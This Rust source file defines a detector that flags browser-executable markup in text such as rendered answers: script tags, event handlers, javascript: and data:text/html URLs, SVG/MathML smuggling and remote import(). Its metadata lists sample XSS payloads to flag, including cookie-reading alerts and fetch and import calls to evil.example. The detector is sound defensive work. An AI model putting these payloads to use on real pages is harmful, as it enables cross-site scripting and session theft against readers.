//! Markup that a browser would run.

use bartizan_core::catalog::{Docs, Meta, Reference};
use bartizan_core::{Category, Severity};

use crate::cursor::{Cursor, before};
use crate::detector::{Detector, Findings, Hit};
use crate::markup::tag::{MAX_TAG_BYTES, Tag, is_script_url};
use crate::text::View;

pub(super) static DETECTOR: ActiveMarkup = ActiveMarkup;

/// Finds scripts in markup.
pub(super) struct ActiveMarkup;

static META: Meta = Meta {
    id: "active-markup",
    summary: "HTML, SVG or a link that runs code in a browser",
    severity: Severity::Medium,
    category: Category::Markup,
    label: "ACTIVE_MARKUP",
    docs: Docs {
        finds: "`script` elements with attributes or code, event handler attributes inside tags, `srcdoc`, URLs with \
                `javascript:`, `vbscript:` or `data:text/html` (also with white space inside the scheme), SVG and MathML \
                elements that smuggle markup, CSS `expression(…)`, and `import(…)` of data or of another host.",
        matters: "An interface that renders an answer as HTML runs the code with the reader's session.",
        example: "`<img src=x onerror=alert(1)>` is flagged; masked it reads `<img src=x <ACTIVE_MARKUP_1>>`.",
        fix: "Escape or sanitise answers where they are shown. Flag rather than block where people ask for HTML.",
        limits: "It cannot tell an attack from a lesson about HTML: code that runs is found either way. JSX handlers \
                 (`onClick={…}`) pass. Handlers that no current browser knows are not listed.",
    },
    references: &[Reference::Cwe(79), Reference::Owasp("LLM05:2025")],
    flags: &[
        "<script>alert(document.cookie)</script>",
        "<script type=\"text/javascript\">let a = 1</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "[click](javascript:alert(1))",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href='  javascr\nipt:alert(1)'>x</a>",
        "<iframe srcdoc=\"&lt;b&gt;hi&lt;/b&gt;\"></iframe>",
        "&lt;script&gt;fetch('//evil.example')&lt;/script&gt;",
        "<object data=\"data:text/html;base64,PGI+\"></object>",
        "<math><annotation-xml encoding=\"text/html\"><b>",
        "<svg><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">",
        "<body onload = 'go()'>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "await import('https://evil.example/x.mjs')",
    ],
    passes: &[
        "Put the <script> tag before the end of the body (see below).",
        "the `<script>` element, and <script> too",
        "JavaScript: the good parts. The script: act one.",
        "<button onClick={() => setOpen(true)}>Open</button>",
        "Set onload = true and onerror = retry in the options.",
        "<svg width=\"10\" height=\"10\"><path d=\"M0 0L10 10\"/></svg>",
        "import('./local-module.js') and import React from 'react'",
        "subscript: a letter below the line; description: none",
        "<p>Only text, <b>bold</b> and <a href=\"https://example.com\">a link</a>.</p>",
        "if (a <b && c> d) { onclick() }",
        "fn tags() -> Result<Vec<Script>, Error> { tags(1) }",
        "patterns = [\'<script>\', \'SELECT * FROM\']; MarkerTree::expression(a)",
    ],
};

/// What an anchor announces.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// `<script`
    Script,
    /// A tag whose attributes may hold a URL that runs.
    Tag,
    /// A tag that smuggles other markup.
    Smuggler,
    /// `script:` of a scheme.
    Scheme,
    /// `data:text/html`
    DataUrl,
    /// `](` and the first letter of a scheme.
    MarkdownLink,
    /// `srcdoc`
    SrcDoc,
    /// `expression(`
    Expression,
    /// `import(`
    Import,
    /// An event handler.
    Handler,
}

const ANCHORS: [(&str, Kind); 24] = [
    ("<script", Kind::Script),
    ("<a ", Kind::Tag),
    ("<a\n", Kind::Tag),
    ("<a/", Kind::Tag),
    ("<area", Kind::Tag),
    ("<form", Kind::Tag),
    ("<iframe", Kind::Tag),
    ("<object", Kind::Tag),
    ("<embed", Kind::Tag),
    ("<base", Kind::Tag),
    ("<use", Kind::Tag),
    ("<animate", Kind::Tag),
    ("<set ", Kind::Tag),
    ("<math", Kind::Tag),
    ("<foreignobject", Kind::Smuggler),
    ("<annotation-xml", Kind::Smuggler),
    ("<mglyph", Kind::Smuggler),
    ("script:", Kind::Scheme),
    ("data:text/html", Kind::DataUrl),
    ("](j", Kind::MarkdownLink),
    ("](v", Kind::MarkdownLink),
    ("srcdoc", Kind::SrcDoc),
    ("expression(", Kind::Expression),
    ("import(", Kind::Import),
];

/// Event handlers that fire without or with little help of the reader.
const HANDLERS: [&str; 44] = [
    "onload",
    "onerror",
    "onclick",
    "ondblclick",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmouseout",
    "onmousedown",
    "onmouseup",
    "onfocus",
    "onblur",
    "onchange",
    "oninput",
    "onsubmit",
    "onreset",
    "onselect",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onscroll",
    "onresize",
    "onhashchange",
    "onpageshow",
    "onpopstate",
    "onmessage",
    "onbeforeunload",
    "onunload",
    "onpointer",
    "onanimation",
    "ontransition",
    "onwheel",
    "ondrag",
    "ondrop",
    "oncopy",
    "onpaste",
    "oncut",
    "onplay",
    "oncanplay",
    "ontouchstart",
];

/// How far an attribute may stand behind the beginning of its tag.
const MAX_LEAD_BYTES: usize = 256;
/// Most bytes of code that are read for a sign of code.
const MAX_CODE_BYTES: usize = 160;

impl Detector for ActiveMarkup {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn literals(&self) -> Vec<String> {
        let anchors = ANCHORS.iter().map(|(anchor, _)| *anchor);
        anchors.chain(HANDLERS).map(str::to_owned).collect()
    }

    fn look_behind(&self) -> usize {
        MAX_LEAD_BYTES
    }

    fn inspect(&self, view: &View<'_>, hits: &[Hit], findings: &mut Findings<'_>) {
        let bytes = view.bytes();
        for hit in hits {
            let kind = ANCHORS.get(hit.literal).map_or(Kind::Handler, |(_, kind)| *kind);
            let mut cursor = Cursor::new(bytes, hit.start, MAX_TAG_BYTES);
            let found = read(bytes, hit, kind, &mut cursor);
            if cursor.starved() {
                findings.undecided(hit.start);
            }
            if let Some((end, score)) = found {
                findings.push(hit.start, end, score);
            }
        }
    }
}

/// Judges an anchor; gives the end of what begins at it, and how sure it is.
fn read(bytes: &[u8], hit: &Hit, kind: Kind, cursor: &mut Cursor<'_>) -> Option<(usize, f32)> {
    if matches!(kind, Kind::Script | Kind::Tag | Kind::Smuggler) {
        let tag = Tag::read(cursor)?;
        let (anchor, _) = ANCHORS.get(hit.literal)?;
        let named = anchor.strip_prefix('<').is_some_and(|name| {
            let name = name.trim_end_matches(['/', ' ', '\n']);
            tag.is(name) || (name == "animate" && tag.name.len() < 20)
        });
        return match kind {
            _ if !named => None,
            Kind::Script => script(&tag, bytes, hit.start, cursor),
            Kind::Smuggler => tag.closed.then_some((tag.end, 0.6)),
            _ => {
                let mut attributes = tag.attributes.iter();
                attributes.any(|found| is_script_url(found.value)).then_some((tag.end, 0.9))
            }
        };
    }
    cursor.run(hit.end - hit.start, |_| true);
    let previous = before(bytes, hit.start, 1).first().copied();
    match kind {
        Kind::Scheme => {
            let lead = before(bytes, hit.start, 24);
            let letters: Vec<u8> = lead
                .iter()
                .rev()
                .filter(|byte| **byte > b' ')
                .take(5)
                .map(u8::to_ascii_lowercase)
                .collect();
            let named = [&b"avaj"[..], b"bv", b"evil"]
                .into_iter()
                .find(|name| letters.starts_with(name))?;
            let mark = letters.get(named.len()).copied();
            let opened = matches!(mark, Some(b'"' | b'\'' | b'=' | b'(' | b'<'));
            (opened && takes_value(cursor)).then(|| (value_end(cursor), 0.9))
        }
        Kind::DataUrl => {
            let opened =
                previous.is_some_and(|byte| matches!(byte, b'"' | b'\'' | b'=' | b'(' | b'<'));
            let goes_on = cursor.peek().is_some_and(|byte| matches!(byte, b',' | b';'));
            (opened && goes_on).then(|| (value_end(cursor), 0.8))
        }
        Kind::MarkdownLink => {
            let from = hit.start + 2;
            cursor.run(200, |byte| byte != b')');
            is_script_url(cursor.since(from)).then(|| (cursor.at(), 0.9))
        }
        Kind::SrcDoc => {
            let fits = in_tag(bytes, hit.start) && assigns(cursor);
            fits.then(|| (value_end(cursor), 0.8))
        }
        Kind::Expression => {
            let lead = before(bytes, hit.start, 4).trim_ascii_end();
            let declared = lead.ends_with(b":") && !lead.ends_with(b"::");
            (declared && takes_value(cursor)).then(|| (cursor.at(), 0.6))
        }
        Kind::Import => {
            let glued = previous.is_some_and(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
            cursor.spaces(4);
            let quoted = cursor.eat_if(|byte| matches!(byte, b'"' | b'\'' | b'`'));
            let elsewhere = ["https://", "http://", "//", "data:"];
            let elsewhere =
                quoted && !glued && elsewhere.iter().any(|start| cursor.eat_word(start));
            elsewhere.then(|| (value_end(cursor), 0.7))
        }
        _ => {
            let separated = previous.is_some_and(|byte| {
                byte.is_ascii_whitespace() || matches!(byte, b'/' | b'"' | b'\'')
            });
            if !separated || !in_tag(bytes, hit.start) {
                return None;
            }
            cursor.run(16, |byte| byte.is_ascii_alphabetic());
            let fits = assigns(cursor);
            fits.then(|| (value_end(cursor), 0.9))
        }
    }
}

/// A script element matters when it has attributes, or code behind it.
fn script(
    tag: &Tag<'_>,
    bytes: &[u8],
    start: usize,
    cursor: &mut Cursor<'_>,
) -> Option<(usize, f32)> {
    if !tag.closed {
        return None;
    }
    // `Vec<Script>` is a type.
    let glued = before(bytes, start, 1).first().is_some_and(u8::is_ascii_alphanumeric);
    if !tag.attributes.is_empty() {
        return Some((tag.end, 0.8));
    }
    let mut last = b' ';
    if cursor.peek().is_some_and(|byte| matches!(byte, b'"' | b'\'')) {
        // A string that is `<script>` and no more.
        return None;
    }
    for _ in 0..MAX_CODE_BYTES {
        let byte = cursor.next()?;
        let code = match byte {
            b'(' => last.is_ascii_alphanumeric() || matches!(last, b'_' | b'$' | b')' | b']'),
            b'=' | b'{' => true,
            b'<' if cursor.eat_word("/script") => return Some((tag.end, 0.8)),
            b'<' | b'`' => return None,
            _ => false,
        };
        if code && !glued {
            return Some((tag.end, 0.8));
        }
        // A sentence or a paragraph ends: this is prose about the tag.
        if (last == b'.' && byte == b' ') || (last == b'\n' && byte == b'\n') {
            return None;
        }
        last = byte;
    }
    None
}

/// Whether `at` lies inside a tag that is still open.
fn in_tag(bytes: &[u8], at: usize) -> bool {
    let lead = before(bytes, at, MAX_LEAD_BYTES);
    let open = lead.iter().rposition(|byte| matches!(byte, b'<' | b'>'));
    let tag = open.and_then(|open| lead.get(open..)).unwrap_or_default();
    tag.starts_with(b"<") && tag.get(1).is_some_and(u8::is_ascii_alphabetic)
}

/// Takes `=` and goes to a value that is no JSX expression.
fn assigns(cursor: &mut Cursor<'_>) -> bool {
    cursor.spaces(8);
    if !cursor.eat(b'=') {
        return false;
    }
    cursor.spaces(8);
    cursor.peek().is_some_and(|byte| !matches!(byte, b'{' | b'>' | b'='))
}

/// Whether something other than white space follows.
fn takes_value(cursor: &mut Cursor<'_>) -> bool {
    cursor.peek().is_some_and(|byte| byte > b' ')
}

/// Goes to the end of a value, whether it is quoted or not.
fn value_end(cursor: &mut Cursor<'_>) -> usize {
    let quote = cursor.peek().filter(|byte| matches!(byte, b'"' | b'\''));
    if quote.is_some() {
        cursor.next();
    }
    cursor.run(MAX_CODE_BYTES, |byte| match quote {
        Some(quote) => byte != quote,
        None => byte > b' ' && byte != b'>' && byte != b'"',
    });
    if let Some(quote) = quote {
        cursor.eat(quote);
    }
    cursor.at()
}
